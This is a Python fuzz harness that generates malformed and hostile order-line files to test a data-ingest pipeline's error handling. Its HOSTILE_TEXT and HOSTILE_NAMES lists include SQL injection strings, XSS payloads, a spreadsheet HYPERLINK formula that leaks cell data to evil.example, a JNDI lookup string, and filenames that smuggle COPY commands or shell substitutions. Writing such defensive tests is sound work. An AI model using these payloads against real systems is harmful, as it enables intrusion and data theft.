"""Seeded fuzz cases for ingest, and the harness that checks the ingest contract on them.

A case is a file (name + bytes) made by one *family* of generators from ``random.Random``;
``make_case(family, seed)`` always gives the same case, so any failure is reproduced from its
(family, seed) pair alone:

    python bench/fuzz_ingest.py --family encodings --case-seed 1000042

Most families are mutations of a valid order-lines file (``valid_rows`` + ``render``), so a
good share of the cases loads and reaches mining and bundles.

The contract (``Harness.run``): ``core.ingest.load.ingest(ws, path)`` either succeeds or raises a
``core.errors.BundleLabError`` with a non-empty message; the same for ``mine`` and
``build_for_dataset`` on what loaded. After every case the datasets loaded before it (``keep`` and
the earlier cases') are unchanged, the workspace holds no ``uploads/.staging-*``, no
``uploads/.incoming`` or ``incoming/`` entries and no ``tmp/`` files, and nothing was written
outside the workspace (the working directory, the workspace's parent, ``/tmp/PWNED*``). A
case flagged ``expect == "load"`` is a valid file: refusing it is reported as
``valid-refused``.

No hypothesis needed; the standard library, openpyxl (for XLSX) and the project's core only.
"""

from __future__ import annotations

import codecs
import csv
import datetime as _dt
import glob
import gzip
import hashlib
import io
import os
import random
import re
import shutil
import time
import traceback
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[1]

HEADER = ["order_id", "item_id", "item_name", "quantity", "unit_price", "customer_id", "date"]
# other spellings the mapping understands (UCI / Shopify-like), to vary the valid files
HEADER_VARIANTS = [
    HEADER,
    ["InvoiceNo", "StockCode", "Description", "Quantity", "UnitPrice", "CustomerID", "InvoiceDate"],
    ["Order Number", "SKU", "Product Name", "Qty", "Price", "Customer", "Order Date"],
    ["order", "item", "name", "qty", "price", "customer", "timestamp"],
]
COL = {name: i for i, name in enumerate(HEADER)}

ADJECTIVES = ["red", "blue", "vintage", "large", "small", "green", "paper", "wooden", "glass",
              "heart", "star", "retro", "pink", "white", "garden"]
NOUNS = ["mug", "lantern", "bag", "candle", "frame", "bowl", "tin", "clock", "bunting",
         "cushion", "doorstop", "napkins", "teapot", "jar", "hook"]
NON_ASCII_NOUNS = ["café tasse", "crème brûlée set", "Müsli-Schale", "señal ñandú", "smörgåsbord",
                   "garçon bowl", "Übergröße tote", "déjà vu frame"]
CJK_NOUNS = ["茶杯", "蜡烛", "帆布袋", "相框", "马克杯", "陶瓷碗", "挂钟"]

HOSTILE_TEXT = [
    "'; DROP TABLE lines; --", "x'); DELETE FROM lines; --", "![b](http://host/beacon.png)",
    "[click](javascript:alert(1))", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", '"', '""', "'", "\\", "\\\\", "\\N",
    "NULL", "null", "None", "NaN", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "{{7*7}}", "${jndi:ldap://x/a}", "%s%s%n", "{0}", "$$x$$", "$1", "\x1b[31mred\x1b[0m",
    "\u202eevil\u202c", "zero\u200bwidth", "🎁🎄 gift", "a\tb", "semi;colon", "pipe|bar",
    "comma,inside", "line\nbreak", "cr\rreturn", " padded ", "--", "/* c */", "%", "_",
    "C0", "line_no", "ＳＫＵ全角", "x" * 300,
]

PWNED_TMP = "/tmp/PWNED-bundlelab-fuzz.txt"
HOSTILE_NAMES = [
    "x*'); COPY (SELECT 1) TO (replace('|tmp|t|PWNED.txt','|',chr(47))); DELETE FROM lines; "
    "SELECT * FROM read_csv('y.csv",
    "x'); COPY (SELECT 1) TO (replace('|tmp|PWNED-bundlelab-fuzz.txt','|',chr(47))); "
    "SELECT * FROM read_csv('y.csv",
    "x', delim := ','); COPY (SELECT 1) TO 'PWNED-rel.txt'; SELECT * FROM read_csv('y.csv",
    "x'); DELETE FROM lines; DELETE FROM datasets; SELECT * FROM read_csv('y.csv",
    "a' || (SELECT 1) || '.csv", "it's.csv", "'.csv", "''.csv", 'say "hi".csv', '".csv',
    "a;b.csv", "semi; DROP TABLE lines;.csv", "a--b.csv", "-- comment.csv", "$$x$$.csv",
    "$tag$x$tag$.csv", "über ünïcödé Größe.csv", "naïve café.tsv", "ordres d'été.csv",
    "emoji 🎁🎄.csv", "\u202ecsv.exe.csv", "zero\u200bwidth.csv", "back\\slash.csv",
    "new\nline.csv", "tab\there.csv", "%s%n%x.csv", "{0}{1}.csv", "${HOME}.csv", "`id`.csv",
    "$(touch PWNED-sub.txt).csv", "-rf.csv", "--help.csv", " leading space.csv",
    "trailing space .csv", "..csv", ".csv", ".hidden.csv", "CON.csv", "NUL.csv", "COM1.csv",
    "a*b?c.csv", "a[1].csv", "a{b}.csv", "a#b.csv", "a&b.csv", "a|b.csv", "a<b>.csv",
    "a:b.csv", "a\x01b.csv", "100%.csv", "keep'.csv", "keep\".csv", "KEEP.csv",
    "orders.csv.gz.csv", "orders.CSV", "orders.txt", "orders", "orders.xlsx.csv",
]

SQL_STRING_NAMES = ["'", "''", "it's", "x'); DELETE FROM lines; --"]

# file names of up to 255 bytes: the longest a Linux/macOS file system takes
MAX_NAME_BYTES = 255


@dataclass
class Case:
    """One input file. ``expect``: ``load`` for a valid file (refusing it is a bug), ``any``
    otherwise. ``dataset``: None (ingest's default, from the file name) or a name to load into
    (``KEEP`` tests that a failed ingest leaves the old dataset of that name intact)."""

    family: str
    seed: int
    name: str
    data: bytes
    note: str
    expect: str = "any"
    dataset: str | None = None
    kind: str | None = None  # the forced kind, if any (part of what reproduces the case)

    def label(self) -> str:
        return f"{self.family}:{self.seed}" + (f":{self.kind}" if self.kind else "")

    def write(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / self.name
        path.write_bytes(self.data)
        return path


KEEP = "keep"


# ---------------------------------------------------------------------------- valid data
def valid_rows(rng: random.Random, *, n_orders: int | None = None,
               names: list[str] | None = None) -> list[list[str]]:
    """Order lines with strong co-purchase groups (so rules and bundles come out): a list of
    ``HEADER``-ordered string rows."""
    n_orders = n_orders or rng.randint(20, 60)
    n_items = rng.randint(6, 14)
    pool = names or [f"{rng.choice(ADJECTIVES)} {rng.choice(NOUNS)}" for _ in range(n_items)]
    items = [(f"SKU{100 + k}", pool[k % len(pool)], round(rng.uniform(0.5, 40), 2))
             for k in range(n_items)]
    groups = [rng.sample(range(n_items), rng.randint(2, 3)) for _ in range(3)]
    start = _dt.datetime(2023, 1, 1) + _dt.timedelta(days=rng.randint(0, 300))
    rows = []
    for o in range(n_orders):
        basket = set(rng.choice(groups))
        if rng.random() < 0.4:
            basket.add(rng.randrange(n_items))
        if rng.random() < 0.1:
            basket = {rng.randrange(n_items)}
        when = start + _dt.timedelta(hours=o * 7 + rng.randint(0, 5), minutes=rng.randint(0, 59))
        cust = f"C{rng.randint(1, 15):03d}"
        for k in sorted(basket):
            sku, name, price = items[k]
            rows.append([str(50000 + o), sku, name, str(rng.randint(1, 6)), f"{price:.2f}", cust,
                         when.strftime("%Y-%m-%d %H:%M:%S")])
    return rows


def render(rows: list[list[str]], header: list[str] | None = HEADER, *, delimiter: str = ",",
           newline: str = "\n", quote_all: bool = False) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=newline,
                   quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL)
    if header is not None:
        w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def valid_text(rng: random.Random, *, n_orders: int | None = None, **kw) -> str:
    return render(valid_rows(rng, n_orders=n_orders), **kw)


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=6, mtime=0)


def _name(rng: random.Random, stem: str, ext: str = ".csv") -> str:
    return f"{stem}-{rng.randrange(10**6):06d}{ext}"


def _maybe_keep(rng: random.Random, case: Case, share: float = 0.25) -> Case:
    """Load some failing-prone cases into the existing dataset ``keep``: a refusal must leave
    it as it was."""
    if case.expect != "load" and rng.random() < share:
        case.dataset = KEEP
    return case


def _bytes_mutate(rng: random.Random, data: bytes, n: int) -> bytes:
    b = bytearray(data)
    for _ in range(n):
        if not b:
            b.append(rng.randrange(256))
            continue
        op = rng.randrange(5)
        i = rng.randrange(len(b))
        if op == 0:
            b[i] = rng.randrange(256)
        elif op == 1:
            b[i] ^= 1 << rng.randrange(8)
        elif op == 2:
            del b[i:i + rng.randint(1, 16)]
        elif op == 3:
            b[i:i] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 8)))
        else:
            j = rng.randrange(len(b))
            b[i:i] = b[j:j + rng.randint(1, 64)]
    return bytes(b)


# ---------------------------------------------------------------------------- families
# Each family picks a *kind* (a sub-variant) first; ``make_case(family, seed, kind)`` forces one
# (the CI test runs every kind once). The random draw happens either way, so a forced kind
# changes nothing else about the case.
DELIMITER_KINDS = {"comma": ",", "semicolon": ";", "tab": "\t", "pipe": "|"}
_KIND_LISTS: dict[str, list[str]] = {}


def _kind(rng: random.Random, forced: str | None, options: list[str]) -> str:
    chosen = rng.choice(options)
    if forced is None:
        return chosen
    if forced not in options:
        raise ValueError(f"no kind {forced!r}; kinds: {', '.join(dict.fromkeys(options))}")
    return forced


def fam_valid(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    header = rng.choice(HEADER_VARIANTS)
    kind = _kind(rng, kind, list(DELIMITER_KINDS))
    delim = DELIMITER_KINDS[kind]
    rows = valid_rows(rng)
    if delim != "," and rng.random() < 0.5:  # European decimal comma
        rows = [r[:4] + [r[4].replace(".", ",")] + r[5:] for r in rows]
    newline = rng.choice(["\n", "\r\n", "\n", "\r\n", "\r"])
    text = render(rows, header, delimiter=delim, newline=newline, quote_all=rng.random() < 0.3)
    if rng.random() < 0.2:
        text = text.rstrip("\r\n")  # no newline at the end
    ext = ".tsv" if delim == "\t" and rng.random() < 0.5 else rng.choice([".csv", ".txt"])
    # old-Mac CR-only line ends: a clean refusal is acceptable
    return Case("valid", seed, _name(rng, "orders", ext), text.encode(),
                f"valid, delimiter {delim!r}, newline {newline!r}, header {header[0]}",
                expect="any" if newline == "\r" else "load")


def fam_random_bytes(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    n = max(1, int(2 ** rng.uniform(0, 16)))  # 1 byte .. 64 KB
    kind = _kind(rng, kind, ["bytes", "printable", "soup", "header+soup", "mutated-valid"])
    if kind == "bytes":
        data = bytes(rng.randrange(256) for _ in range(n))
    elif kind == "printable":
        alphabet = "abcXYZ019 ,;|\t\"'\n\r.-+eE"
        data = "".join(rng.choice(alphabet) for _ in range(n)).encode()
    elif kind in ("soup", "header+soup"):
        tokens = ["1", "0", "-1", "1.5", "a", "SKU1", "x y", ",", ",", ";", "\t", "|", "\n",
                  "\n", "\r\n", '"', '""', "'", "2024-01-01", "é", "订单", "\\", " ", "NaN"]
        parts = []
        size = 0
        while size < n:
            t = rng.choice(tokens)
            parts.append(t)
            size += len(t)
        data = "".join(parts).encode()
        if kind == "header+soup":
            data = (",".join(HEADER) + "\n").encode() + data
    else:
        data = _bytes_mutate(rng, valid_text(rng).encode(), rng.randint(1, 40))
    case = Case("random_bytes", seed, _name(rng, "blob", rng.choice([".csv", ".tsv", ".txt", ".gz",
                                                                      ".xlsx", ""])),
                data, f"{kind}, {len(data)} bytes")
    return _maybe_keep(rng, case)


def fam_gzip(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    text = valid_text(rng).encode()
    gz = _gzip(text)
    kind = _kind(rng, kind, ["valid.gz", "gzip-named-csv", "plain-named-gz", "truncated",
                             "corrupted", "double-gzip", "empty-gzip", "trailing-garbage",
                             "header-only-gz", "multi-member", "gzip-latin-1", "gzip-utf-16",
                             "gzip-of-xlsx", "gzip-quoted-newlines"])
    expect = "any"
    if kind == "valid.gz":
        data, name, expect = gz, _name(rng, "orders", ".csv.gz"), "load"
    elif kind == "gzip-named-csv":
        data, name, expect = gz, _name(rng, "orders", ".csv"), "load"
    elif kind == "plain-named-gz":
        data, name, expect = text, _name(rng, "orders", ".csv.gz"), "load"
    elif kind == "truncated":
        data, name = gz[: rng.randint(2, max(2, len(gz) - 1))], _name(rng, "cut", ".csv.gz")
    elif kind == "corrupted":
        data, name = _bytes_mutate(rng, gz, rng.randint(1, 10)), _name(rng, "bad", ".csv.gz")
        if data[:2] != b"\x1f\x8b":
            data = b"\x1f\x8b" + data[2:]
    elif kind == "double-gzip":
        data, name = _gzip(gz), _name(rng, "twice", ".csv.gz")
    elif kind == "empty-gzip":
        data, name = _gzip(b""), _name(rng, "empty", ".csv.gz")
    elif kind == "trailing-garbage":
        data, name = gz + bytes(rng.randrange(256) for _ in range(rng.randint(1, 200))), \
            _name(rng, "tail", ".csv.gz")
    elif kind == "multi-member":  # concatenated gzip members: one valid stream (RFC 1952)
        cut = text.index(b"\n", len(text) // 2) + 1
        data, name, expect = _gzip(text[:cut]) + _gzip(text[cut:]), \
            _name(rng, "members", ".csv.gz"), "load"
    elif kind == "gzip-latin-1":
        rows = valid_rows(rng, names=NON_ASCII_NOUNS)
        data, name, expect = _gzip(render(rows).encode("latin-1")), \
            _name(rng, "latin", ".csv.gz"), "load"
    elif kind == "gzip-utf-16":
        data, name, expect = _gzip(codecs.BOM_UTF16_LE + text.decode().encode("utf-16-le")), \
            _name(rng, "utf16", ".csv.gz"), "load"
    elif kind == "gzip-of-xlsx":
        data, name = _gzip(_xlsx_bytes([list(HEADER)] + valid_rows(rng))), \
            _name(rng, "book", ".xlsx.gz")
    elif kind == "gzip-quoted-newlines":
        rows = valid_rows(rng)
        rows[len(rows) // 2][COL["item_name"]] = "two\nlines"
        data, name, expect = _gzip(render(rows).encode()), _name(rng, "multi", ".csv.gz"), "load"
    else:
        data, name = _gzip((",".join(HEADER) + "\n").encode()), _name(rng, "hdr", ".csv.gz")
    return _maybe_keep(rng, Case("gzip", seed, name, data, kind, expect=expect))


def fam_mixed_delimiters(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    rows = valid_rows(rng)
    delims = [",", ";", "\t", "|"]
    kind = _kind(rng, kind, ["per-row", "per-field", "header-differs", "embedded"])
    if kind == "per-row":
        lines = [rng.choice(delims).join(HEADER)] + [rng.choice(delims).join(r) for r in rows]
    elif kind == "per-field":
        def join(cells):
            return "".join(c + (rng.choice(delims) if i < len(cells) - 1 else "")
                           for i, c in enumerate(cells))
        lines = [join(HEADER)] + [join(r) for r in rows]
    elif kind == "header-differs":
        a, b = rng.sample(delims, 2)
        lines = [a.join(HEADER)] + [b.join(r) for r in rows]
    else:
        d = rng.choice(delims)
        lines = [d.join(HEADER)] + [d.join(c + rng.choice(delims) * rng.randint(0, 1) for c in r)
                                    for r in rows]
    return _maybe_keep(rng, Case("mixed_delimiters", seed, _name(rng, "mixed"),
                                 ("\n".join(lines) + "\n").encode(), kind))


def fam_nul_bytes(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    text = valid_text(rng).encode()
    where = _kind(rng, kind, ["head", "middle", "past-sample", "end", "every-other",
                              "in-quoted"])
    if where == "head":
        data = text[:10] + b"\x00" + text[10:]
    elif where == "middle":
        i = rng.randrange(len(text))
        data = text[:i] + b"\x00" * rng.randint(1, 4) + text[i:]
    elif where == "past-sample":  # beyond the 8 KB the binary check looks at
        pad = render(valid_rows(rng, n_orders=400), header=None).encode()
        body = text + pad
        data = body + b"1,SKU\x00X,a\x00b,1,1.00,C1,2024-01-01 00:00:00\n" + pad[:2000]
    elif where == "end":
        data = text + b"\x00"
    elif where == "every-other":
        data = bytes(b for c in text for b in (c, 0))
    else:
        data = text + b'60000,SKU1,"nul\x00inside",1,1.00,C1,2024-01-01 00:00:00\n'
    return _maybe_keep(rng, Case("nul_bytes", seed, _name(rng, "nul"), data, where))


def fam_huge_fields(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    rows = valid_rows(rng)
    kind = _kind(rng, kind, ["name-200k", "id-200k", "unquoted-200k", "line-3MB",
                             "no-newline-2MB", "many-huge"])
    expect = "any"
    big = "".join(rng.choice("abcdefghij ,;\"") for _ in range(200_000))
    if kind == "name-200k":
        rows[rng.randrange(len(rows))][COL["item_name"]] = big
        text, expect = render(rows), "load"
    elif kind == "id-200k":
        rows[rng.randrange(len(rows))][COL["item_id"]] = "S" * 200_000
        text, expect = render(rows), "load"
    elif kind == "unquoted-200k":
        text = render(rows) + "1,SKU1," + "z" * 200_000 + ",1,1.00,C1,2024-01-01 00:00:00\n"
    elif kind == "line-3MB":
        text = render(rows) + "1,SKU1,\"" + "y" * 3_000_000 + "\",1,1.00,C1,2024-01-01\n"
    elif kind == "no-newline-2MB":
        text = ",".join(HEADER) + "\n" + ",".join(str(i) for i in range(400_000))
    else:
        for r in rng.sample(rows, min(len(rows), 5)):
            r[COL["item_name"]] = big[: rng.randint(50_000, 200_000)]
        text, expect = render(rows), "load"
    return _maybe_keep(rng, Case("huge_fields", seed, _name(rng, "huge"), text.encode(), kind,
                                 expect=expect))


def fam_unbalanced_quotes(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    text = valid_text(rng, quote_all=rng.random() < 0.5)
    kind = _kind(rng, kind, ["random-insert", "open-at-end", "open-in-header",
                             "stray-in-field", "odd-double"])
    if kind == "random-insert":
        for _ in range(rng.randint(1, 3)):
            i = rng.randrange(len(text))
            text = text[:i] + '"' + text[i:]
    elif kind == "open-at-end":
        text += '99999,SKU1,"never closed,1,1.00,C1,2024-01-01 00:00:00\n'
    elif kind == "open-in-header":
        text = '"' + text
    elif kind == "stray-in-field":
        text += '99999,SKU1,ab"cd,1,1.00,C1,2024-01-01 00:00:00\n'
    else:
        text += '99999,SKU1,"a""b"",1,1.00,C1,2024-01-01 00:00:00\n'
    return _maybe_keep(rng, Case("unbalanced_quotes", seed, _name(rng, "quotes"), text.encode(),
                                 kind))


def fam_quoted_newlines(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    rows = valid_rows(rng)
    for r in rng.sample(rows, max(1, len(rows) // 4)):
        r[COL["item_name"]] = rng.choice(["two\nlines", "crlf\r\ninside", "lone\rcr",
                                          "\nleading", "trailing\n", "many\n\n\nbreaks"])
    kind = _kind(rng, kind, ["lf", "crlf"])
    newline = {"lf": "\n", "crlf": "\r\n"}[kind]
    return Case("quoted_newlines", seed, _name(rng, "multiline"),
                render(rows, newline=newline).encode(), kind, expect="load")


def fam_wide(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    n_cols = rng.choice([1000, 2000, 5000, 10000]) if rng.random() < 0.7 \
        else rng.randint(1000, 10000)
    rows = valid_rows(rng, n_orders=rng.randint(3, 8))
    extra = n_cols - len(HEADER)
    kind = _kind(rng, kind, ["required-first", "required-shuffled", "no-required"])
    names = [f"extra_{k}" for k in range(extra)]
    if kind == "no-required":
        header = [f"col_{k}" for k in range(n_cols)]
        body = [[str(rng.randrange(100)) for _ in range(n_cols)] for _ in rows]
        expect = "any"
    else:
        header = HEADER + names
        body = [r + [str((i * 7 + k) % 13) for k in range(extra)] for i, r in enumerate(rows)]
        if kind == "required-shuffled":
            perm = list(range(n_cols))
            rng.shuffle(perm)
            header = [header[p] for p in perm]
            body = [[b[p] for p in perm] for b in body]
        expect = "load"
    return Case("wide", seed, _name(rng, "wide"), render(body, header).encode(),
                f"{kind}, {n_cols} columns, {len(body)} rows", expect=expect)


ENCODINGS = ["utf-8-sig", "utf-8-sig+latin-1", "utf-16-le-bom", "utf-16-be-bom", "utf-16-nobom",
             "utf-32", "cp500", "gb18030", "cp1252", "latin-1", "utf-8+latin-1-tail",
             "mac-roman", "shift_jis", "utf-16-multiline", "gb18030-semicolon",
             "utf-8-invalid-bytes", "utf-8-overlong", "surrogates"]


def fam_encodings(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    enc = _kind(rng, kind, ENCODINGS)
    western = enc in ("utf-8-sig+latin-1", "cp1252", "latin-1", "utf-8+latin-1-tail", "mac-roman",
                      "cp500")
    pool = NON_ASCII_NOUNS if western else NON_ASCII_NOUNS + CJK_NOUNS
    if enc in ("gb18030", "shift_jis"):
        pool = CJK_NOUNS
    rows = valid_rows(rng, names=rng.sample(pool, min(len(pool), rng.randint(4, 8))))
    text = render(rows)
    expect = "any"
    if enc == "utf-8-sig":
        data, expect = codecs.BOM_UTF8 + text.encode(), "load"
    elif enc == "utf-8-sig+latin-1":
        head, body = text.split("\n", 1)
        data = codecs.BOM_UTF8 + (head + "\n").encode() + body.encode("latin-1")
    elif enc == "utf-16-le-bom":
        data, expect = codecs.BOM_UTF16_LE + text.encode("utf-16-le"), "load"
    elif enc == "utf-16-be-bom":
        data, expect = codecs.BOM_UTF16_BE + text.encode("utf-16-be"), "load"
    elif enc == "utf-16-nobom":
        data = text.encode("utf-16-le")
    elif enc == "utf-32":
        data = text.encode("utf-32")
    elif enc == "cp500":
        data = text.encode("cp500")
    elif enc == "gb18030":
        data, expect = text.encode("gb18030"), "load"
    elif enc in ("cp1252", "latin-1"):
        data, expect = text.encode(enc), "load"
    elif enc == "utf-8+latin-1-tail":  # valid UTF-8 for the first MB, Latin-1 after it
        ascii_rows = render(valid_rows(rng, n_orders=9000), header=None)
        data = (render([], header=HEADER) + ascii_rows).encode() + \
            render(rows, header=None).encode("latin-1")
        expect = "load"
    elif enc == "mac-roman":
        data = text.encode("mac-roman")
    elif enc == "utf-16-multiline":  # quoted newlines and a long field, after transcoding
        rows[len(rows) // 2][COL["item_name"]] = "zwei\nZeilen " + "é" * rng.randint(10, 100_000)
        data, expect = codecs.BOM_UTF16_LE + render(rows).encode("utf-16-le"), "load"
    elif enc == "gb18030-semicolon":
        rows = [r[:4] + [r[4].replace(".", ",")] + r[5:] for r in rows]
        data, expect = render(rows, delimiter=";").encode("gb18030"), "load"
    elif enc == "utf-8-invalid-bytes":  # UTF-8 with a few stray bytes in names
        raw = bytearray(text.encode())
        for _ in range(rng.randint(1, 5)):
            i = raw.index(b"\n") + 1 + rng.randrange(len(raw) - raw.index(b"\n") - 1)
            if raw[i:i + 1] not in (b"\n", b",", b'"', b"\r"):
                raw[i] = rng.choice([0x80, 0xbf, 0xc3, 0xe2, 0xf0, 0xff, 0xfe])
        data = bytes(raw)
    elif enc == "utf-8-overlong":
        data = text.encode() + b"1,SKU1,over\xc0\xafong,1,1.00,C1,2024-01-01 00:00:00\n"
    elif enc == "surrogates":
        data = text.encode() + "1,SKU1,lone \ud800 surrogate,1,1.00,C1,2024-01-01\n".encode(
            "utf-8", "surrogatepass")
    else:
        data = text.encode("shift_jis", errors="replace")
    return _maybe_keep(rng, Case("encodings", seed, _name(rng, f"enc-{enc}"), data, enc,
                                 expect=expect))


EXTREME_NUMBERS = ["1e308", "-1e308", "1.7976931348623157e309", "-0", "0", "-0.0", "NaN", "nan",
                   "inf", "-inf", "Infinity", "1e-320", "4.9e-324", "99999999999999999999",
                   "18446744073709551616", "-9223372036854775809", "1,234.5", "1.234,5", "1 234,5",
                   "1'234.50", "0x10", "1_000", "+5", "5-", "(5)", "€5,00", "$1,000,000.00",
                   "５", "١٢٣", "", " ", "1e", ".", "-", "1..2", "00000000000000000001",
                   "3.14159265358979323846264338327950288"]


def fam_numbers(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    rows = valid_rows(rng)
    field_ = _kind(rng, kind, ["quantity", "unit_price", "both", "order_id", "item_id"])
    share = rng.choice([0.1, 0.3, 0.5, 1.0])
    for r in rows:
        if rng.random() < share:
            for f in (("quantity", "unit_price") if field_ == "both" else (field_,)):
                r[COL[f]] = rng.choice(EXTREME_NUMBERS)
    delim = rng.choice([",", ";"])
    expect = "load" if share < 1.0 and field_ in ("quantity", "unit_price", "both") else "any"
    return _maybe_keep(rng, Case("numbers", seed, _name(rng, "numbers"),
                                 render(rows, delimiter=delim).encode(),
                                 f"{field_} share {share} delimiter {delim!r}", expect=expect))


EXTREME_DATES = ["0000-01-01", "0001-01-01", "9999-12-31", "9999-12-31 23:59:59.999999",
                 "10000-01-01", "-0044-03-15", "1970-01-01", "1970-01-01 00:00:00", "2038-01-19",
                 "2038-01-19 03:14:08", "1900-02-29", "2024-02-30", "2023-13-01", "", " ",
                 "yesterday", "now", "infinity", "-infinity", "epoch", "1700000000",
                 "1700000000000", "2024-01-01T00:00:00Z", "2024-01-01T00:00:00+14:00",
                 "2024-01-01 25:61:61", "01/02/03", "31.12.1999", "2024年1月2日",
                 "294247-01-10", "290309-12-22 (BC) 00:00:00", "1e9", "NaT", "null", "45123",
                 "45123.5", "2024-06-01 12:00:00 CEST", "2024-W01-1", "２０２４-０１-０１"]


def fam_dates(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    rows = valid_rows(rng)
    kind = _kind(rng, kind, ["share-0.1", "share-0.3", "share-0.5", "share-1.0"])
    share = float(kind.split("-")[1])
    for r in rows:
        if rng.random() < share:
            r[COL["date"]] = rng.choice(EXTREME_DATES)
    if share == 1.0 and rng.random() < 0.5:  # every date the same odd value
        v = rng.choice(EXTREME_DATES)
        for r in rows:
            r[COL["date"]] = v
    return _maybe_keep(rng, Case("dates", seed, _name(rng, "dates"), render(rows).encode(),
                                 f"share {share}", expect="load" if share < 1.0 else "any"))


def _cap(name: str, limit: int = MAX_NAME_BYTES) -> str:
    """``name`` cut to ``limit`` UTF-8 bytes, characters dropped before its extension."""
    m = re.search(r"(\.[A-Za-z0-9]{1,5})+$", name)
    stem, ext = (name[:m.start()], m.group(0)) if m and m.start() > 0 else (name, "")
    while len((stem + ext).encode()) > limit:
        stem = stem[:-1]
    return stem + ext


def fam_hostile_filenames(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    kind = _kind(rng, kind, ["list", "list", "list", "cjk-200-bytes", "long-255", "sql-in-stem"])
    if kind == "list":
        name = rng.choice(HOSTILE_NAMES)
    elif kind == "cjk-200-bytes":
        name = "订单导出" * 16 + "数据" + ".csv"  # 66 characters, 198 bytes of stem
    elif kind == "long-255":
        name = _cap("a" * 251 + "é" * 3 + ".csv")
    else:
        name = rng.choice(SQL_STRING_NAMES) + rng.choice(HOSTILE_TEXT[:5]) + ".csv"
    name = _cap(name.replace("/", "|").replace("\x00", ""))
    body = rng.choice(["csv", "csv", "csv", "gzip", "xlsx", "utf-16"])
    if body == "xlsx":  # the hostile stem with an .xlsx extension
        data = _xlsx_bytes([list(HEADER)] + valid_rows(rng))
        stem = re.sub(r"(\.[A-Za-z]{1,4})+$", "", name)
        name = _cap((stem if stem not in ("", ".") else name) + ".xlsx")
    elif body == "utf-16":
        data = codecs.BOM_UTF16_LE + valid_text(rng).encode("utf-16-le")
    else:
        data = valid_text(rng).encode()
        data = _gzip(data) if body == "gzip" else data
    return Case("hostile_filenames", seed, name, data, f"{kind}, {body}: {name[:60]!r}",
                expect="load")


def fam_hostile_content(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    rows = valid_rows(rng)
    kind = _kind(rng, kind, ["item-names", "item-ids", "customers", "extra-columns",
                             "header-renamed", "order-ids"])
    expect = "load"
    header = list(HEADER)
    if kind == "item-names":
        for r in rows:
            if rng.random() < 0.5:
                r[COL["item_name"]] = rng.choice(HOSTILE_TEXT)
    elif kind == "item-ids":
        ids = {}
        for r in rows:
            ids.setdefault(r[COL["item_id"]], rng.choice(HOSTILE_TEXT) + r[COL["item_id"]])
            r[COL["item_id"]] = ids[r[COL["item_id"]]]
    elif kind == "customers":
        for r in rows:
            r[COL["customer_id"]] = rng.choice(HOSTILE_TEXT + ["a@b.c", "'@x.com"])
    elif kind == "order-ids":
        ids = {}
        for r in rows:
            ids.setdefault(r[COL["order_id"]], rng.choice(["", "'"]) + r[COL["order_id"]] +
                           rng.choice(HOSTILE_TEXT))
            r[COL["order_id"]] = ids[r[COL["order_id"]]]
    elif kind == "extra-columns":
        extra = rng.sample(HOSTILE_TEXT, rng.randint(1, 5))
        extra = [e for e in extra if e.strip() and e not in header]
        extra = list(dict.fromkeys(extra))
        header += extra
        rows = [r + [rng.choice(HOSTILE_TEXT) for _ in extra] for r in rows]
    else:  # a required column renamed to something hostile: a clean mapping error is fine
        header[COL[rng.choice(["order_id", "item_id"])]] = rng.choice(HOSTILE_TEXT)
        expect = "any"
    return _maybe_keep(rng, Case("hostile_content", seed, _name(rng, "hostile"),
                                 render(rows, header).encode(), kind, expect=expect))


def fam_html(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    kind = _kind(rng, kind, ["page", "table", "login", "xml"])
    if kind == "page":
        text = ("<!DOCTYPE html>\n<html><head><title>Sign in</title></head>\n<body>\n"
                "<p>Your session expired, please sign in again.</p>\n</body></html>\n")
    elif kind == "table":
        rows = valid_rows(rng, n_orders=5)
        cells = "\n".join("<tr>" + "".join(f"<td>{c}</td>" for c in r) + "</tr>" for r in rows)
        text = ("<html><body><table>\n<tr>" + "".join(f"<th>{h}</th>" for h in HEADER) +
                "</tr>\n" + cells + "\n</table></body></html>\n")
    elif kind == "login":
        text = ('<html>\n<form action="/login" method="post">\n<input name="user,order_id">'
                '\n<input name="pass,item_id">\n</form>\n</html>\n')
    else:
        text = '<?xml version="1.0"?>\n<orders><order id="1"><item>a,b</item></order></orders>\n'
    name = _name(rng, "export", rng.choice([".csv", ".html", ".xlsx", ".txt"]))
    return _maybe_keep(rng, Case("html", seed, name, text.encode(), kind), share=0.5)


def fam_excel_sep(rng: random.Random, seed: int, kind: str | None = None) -> Case:
    kind = _kind(rng, kind, ["semicolon", "comma", "tab", "pipe"])
    delim = DELIMITER_KINDS[kind]
    first = rng.choice([f"sep={delim}", f'"sep={delim}"', f"sep={delim}\r", f"SEP={delim}",
                        f"sep={delim}{delim}{delim}"])
    rows = valid_rows(rng)
    if delim == ";":
        rows = [r[:4] + [r[4].replace(".", ",")] + r[5:] for r in rows]
    newline = rng.choice(["\n", "\r\n"])
    text = first + newline + render(rows, delimiter=delim, newline=newline)
    data = text.encode("utf-8-sig" if rng.random() < 0.3 else "utf-8")
    return _maybe_keep(rng, Case("excel_sep", seed, _name(rng, "excel"), data,
                                 f"{first!r} delimiter {delim!r}"))


